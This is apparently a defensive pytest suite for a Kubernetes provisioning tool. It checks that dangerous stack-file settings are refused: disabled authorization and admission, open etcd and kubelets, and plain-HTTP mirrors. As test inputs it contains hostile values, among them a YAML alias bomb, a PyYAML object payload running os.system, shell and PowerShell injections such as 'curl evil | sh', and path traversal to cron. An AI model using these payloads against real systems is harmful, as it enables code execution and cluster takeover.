"""From a malicious stack file: a change of the file that a reviewer may overlook.

Seen in: the standard error of `up` and `mullion preview`: the option's path, the reason, the check's id and the fix.
"""

import time
from typing import Any

import pytest

from components.spec.report import SpecError
from components.stack_files.stack import read_stack
from components.stack_files.stack_file import stack_file_config
from tests.attacks.stack_files import api_server, refusal
from tests.components.spec.documents import plane, web

ALIASES = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{new}: &{new} [{','.join(['*' + old] * 9)}]\n" for old, new in zip("abcdefgh", "bcdefghi", strict=True)
)
"""A text of 9 ** 9 elements, in nine lines."""


def test_authorization_cannot_be_switched_off() -> None:
    """Allow everything to everybody at the API server.

    Refused by: check argument-opens-cluster.
    """
    for value in ("AlwaysAllow", "Node,RBAC,AlwaysAllow", "RBAC", "Webhook"):
        assert "rights that no role grants" in refusal(api_server(("authorization-mode", value)))


def test_node_restriction_cannot_be_switched_off() -> None:
    """Let each kubelet change other nodes, by the list of admission plugins.

    Refused by: check argument-opens-cluster.
    """
    assert "keep NodeRestriction" in refusal(api_server(("disable-admission-plugins", "Foo, NodeRestriction")))
    assert "add NodeRestriction" in refusal(api_server(("enable-admission-plugins", "PodNodeSelector")))


@pytest.mark.parametrize(
    ("flag", "value", "says"),
    [
        ("disable-admission-plugins", "ValidatingAdmissionPolicy", "what only admission refuses"),
        ("disable-admission-plugins", "AlwaysPullImages,PodSecurity", "what only admission refuses"),
        ("disable-admission-plugins", "CertificateSubjectRestriction", "what only admission refuses"),
        ("feature-gates", "Other=true,ValidatingAdmissionPolicy=false", "would refuse nothing"),
        ("feature-gates", "PodSecurity=False", "would refuse nothing"),
        ("runtime-config", "admissionregistration.k8s.io/v1=false", "admission policies would refuse nothing"),
        ("runtime-config", "api/all=false,api/ga=true", "admission policies would refuse nothing"),
        ("admission-control-config-file", "/etc/kubernetes/own.yaml", "admission-file-replaced"),
        ("authorization-webhook-config-file", "/etc/kubernetes/evil", "another server would decide what users may do"),
        ("service-account-key-file", "/etc/kubernetes/evil.pub", "sign tokens of every service account"),
    ],
)
def test_admission_and_the_keys_of_tokens_stay(flag: str, value: str, says: str) -> None:
    """Switch off the admission that holds kubelets, pods and certificate requests, or add a key that signs tokens.

    Refused by: checks argument-opens-cluster and admission-file-replaced.
    """
    assert says in refusal(api_server((flag, value)))


@pytest.mark.parametrize("flag", ["cluster-signing-duration", "experimental-cluster-signing-duration"])
@pytest.mark.parametrize("value", ["8760h", "24h1s", "1441m", "1e9h", "-1h"])
def test_stolen_certificates_end_within_a_day(flag: str, value: str) -> None:
    """Let certificates of nodes be valid for years, because Kubernetes cannot revoke them.

    Refused by: check argument-opens-cluster.
    """
    flags = {"controllerManager": {"extraArgs": {flag: value}}}
    assert "must end within a day" in refusal(
        {"kubernetes": "1.24.17", "kubeadm": {"config": {"ClusterConfiguration": flags}}}
    )


def test_a_second_of_two_flags_of_one_name_is_judged_too() -> None:
    """Hide a dangerous flag behind a harmless one of the same name.

    Refused by: check argument-opens-cluster.
    """
    said = refusal(api_server(("authorization-mode", "Node,RBAC"), ("authorization-mode", "AlwaysAllow")))
    assert "extraArgs.1: --authorization-mode='AlwaysAllow'" in said


def test_a_file_of_tokens_is_no_way_in() -> None:
    """Let a token of a file in as administrator.

    Refused by: check argument-opens-cluster.
    """
    assert "never expire" in refusal(api_server(("token-auth-file", "/etc/kubernetes/tokens.csv")))


def test_etcd_keeps_asking_for_certificates() -> None:
    """Open etcd, with all secrets, to everybody who reaches it.

    Refused by: check argument-opens-cluster.
    """
    for flag in (
        {"name": "client-cert-auth", "value": "false"},
        {"name": "listen-client-urls", "value": "http://0.0.0.0:2379"},
    ):
        config = {"ClusterConfiguration": {"etcd": {"local": {"extraArgs": [flag]}}}}
        assert "kubeadm.config.ClusterConfiguration.etcd.local.extraArgs.0" in refusal(
            {"kubernetes": "1.31.14", "kubeadm": {"config": config}}
        )


@pytest.mark.parametrize(
    "config",
    [
        {"authentication": {"anonymous": {"enabled": True}}},
        {"authorization": {"mode": "AlwaysAllow"}},
        {"authentication": {"webhook": {"enabled": False}}},
        {"readOnlyPort": 10255},
    ],
    ids=["anonymous", "always-allow", "no-webhook", "read-only-port"],
)
@pytest.mark.parametrize("group", [plane, web], ids=["control-plane", "windows-pool"])
def test_a_kubelet_answers_nobody_without_proof_and_right(group: Any, config: dict[str, Any]) -> None:
    """Make kubelets run programs in pods for everybody who reaches them.

    Refused by: check kubelet-config-open.
    """
    assert "kubelet-config-open" in refusal(group(kubelet={"config": config}))


def test_images_do_not_come_over_plain_http() -> None:
    """Fetch images from a mirror over http, or from one whose certificate nobody checks.

    Refused by: check mirror-unencrypted, which stops `up` until it is acknowledged.
    """
    mirrors = {"mirrors": {"registry.k8s.io": ["http://198.51.100.7"]}}
    settings = {"config": {"plugins": {"io.containerd.grpc.v1.cri": {"registry": {"configs": {"a.example": {
        "tls": {"insecure_skip_verify": True}}}}}}}}  # fmt: skip
    for group in (plane, web):
        for containerd in (mirrors, settings):
            assert "so an attacker on the network path can replace them" in refusal(group(containerd=containerd))


def test_an_api_open_to_the_internet_needs_a_reason() -> None:
    """Open the API to the whole internet in two or four parts that look like ranges of a company.

    Refused by: check allow-anywhere, which stops `up` until it is acknowledged.
    """
    for allow in (
        ["0.0.0.0/0"],
        ["0.0.0.0/1", "128.0.0.0/1"],
        ["128.0.0.0/2", "0.0.0.0/2", "192.0.0.0/2", "64.0.0.0/2"],
    ):
        assert "the whole internet can reach the API" in refusal({"api": {"access": "public", "allow": allow}})


@pytest.mark.parametrize("registry", ["..", "../../../etc/cron.d", "a/../..", ".", "a\n", "a b", "-"])
def test_a_registrys_name_cannot_leave_containerds_folder(registry: str) -> None:
    """Write a file of root outside of certs.d, by the name of a registry.

    Refused by: the form of containerd.mirrors.
    """
    assert "containerd.mirrors" in refusal(web(containerd={"mirrors": {registry: ["https://mirror.example"]}}))


@pytest.mark.parametrize("end", ["\nExecStartPre=/bin/sh", "\r", "\t", "\x00", " x", "\u202e", "/%0a", '"'])
def test_a_proxys_address_cannot_add_a_line_to_a_unit(end: str) -> None:
    """Add a line to units of root, by a line break in the address of the proxy.

    Refused by: check proxy-address.
    """
    assert "proxy.http" in refusal({"proxy": {"http": f"http://proxy.example:3128{end}"}})


@pytest.mark.parametrize(
    "change",
    [
        {"kubernetes": "1.36.4; curl evil | sh"},
        {"kubernetes": "../../1.36.4"},
        {"owner": "a\nruncmd: [reboot]"},
        {"pools": {"../web": {"os": "windows-2022", "count": 1, "size": "m6i.xlarge"}}},
        {"pools": {"web$(id)": {"os": "windows-2022", "count": 1, "size": "m6i.xlarge"}}},
        {"network": {"domain": "a b'; id"}},
        web(labels={"team": "x,node-role.kubernetes.io/control-plane="}),
        web(labels={"team": "x\n--authorization-mode=AlwaysAllow"}),
        web(containerd={"version": "2.2.1'; Invoke-Expression x"}),
    ],
    ids=[
        "version",
        "version-path",
        "owner",
        "pool-path",
        "pool-shell",
        "domain",
        "label-comma",
        "label-line",
        "containerd",
    ],
)
def test_a_value_cannot_become_code(change: dict[str, Any]) -> None:
    """Put code for a shell, PowerShell, cloud-init or a command line into a value.

    Refused by: the form of each option.
    """
    assert refusal(change)


def test_a_label_cannot_make_a_worker_a_control_plane() -> None:
    """Give workers a label that Kubernetes keeps for itself.

    Refused by: the checks of labels.
    """
    for label in (
        "node-role.kubernetes.io/control-plane",
        "node-restriction.kubernetes.io/a",
        "kubernetes.io/hostname",
    ):
        assert "pools.web.labels" in refusal(web(labels={label: "x"}))


@pytest.mark.parametrize(
    "change",
    [
        {"proxy": {"http": "http://me:hunter2hunter2@proxy.example:3128"}},
        web(containerd={"mirrors": {"*": ["https://me:hunter2hunter2@mirror.example"]}}),
        {"artifacts": {"mirror": "https://mirror.example/?sig=hunter2hunter2"}},
    ],
    ids=["proxy", "mirror", "artifacts"],
)
def test_a_secret_in_a_value_does_not_reach_machines_or_messages(change: dict[str, Any]) -> None:
    """Leave a password in a value that all machines and the bundle store get.

    Refused by: the form of addresses; the message does not repeat it.
    """
    assert "hunter2" not in refusal(change)


def test_a_download_without_a_digest_is_not_built() -> None:
    """Replace a program by one of another publisher, without a digest.

    Refused by: check download-without-digest.
    """
    entry = {"name": "kubernetes-node", "version": "1.36.4", "os": "linux", "url": "https://evil.example/k",
             "digest": "unknown"}  # fmt: skip
    said = refusal({"kubernetes": "1.36.4", "artifacts": {"entries": [entry]}})
    assert "has no published digest, so machines cannot check the download; `up` refuses" in said


@pytest.mark.parametrize(
    "text",
    [
        ALIASES,
        "config: !!python/object/apply:os.system ['id > /tmp/owned']\n",
        "config: " + 100_000 * "[",
        "config: {" + "a: {" * 5000,
    ],
    ids=["aliases", "python-object", "nested-lists", "nested-maps"],
)  # fmt: skip
def test_a_stack_file_cannot_run_code_or_fill_the_memory(text: str, tmp_path: Any) -> None:
    """Let the reader of YAML make objects of Python, or a text of gigabytes.

    Refused by: the reader of stack files.
    """
    file, begin = tmp_path / "Pulumi.aws-test.yaml", time.process_time()
    file.write_text(text)
    with pytest.raises(SpecError):
        read_stack("aws-test", stack_file_config(file))
    assert time.process_time() - begin < 5, "seconds of CPU time: a text that grows at each level would take hours"
